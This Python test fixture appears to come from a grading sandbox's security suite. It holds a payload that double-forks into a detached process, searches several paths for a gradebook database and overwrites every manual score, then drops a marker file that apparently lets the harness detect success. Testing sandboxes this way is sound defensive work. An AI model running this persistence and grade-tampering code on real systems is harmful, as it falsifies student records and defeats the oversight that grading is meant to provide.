"""A process left behind looks for a gradebook again and again and writes marks into it."""

BEFORE = """
import os, sqlite3, time
def later():
    for _ in range(200):
        time.sleep(0.05)
        for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "/gradebook.db"):
            try:
                with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as base:
                    base.execute("update grade set manual_score = 20, needs_manual_grade = 0")
                os.system("touch @COURSE@/convolab_attack")
            except Exception:
                pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        later()
    os._exit(0)
print("ATTEMPTED")
"""
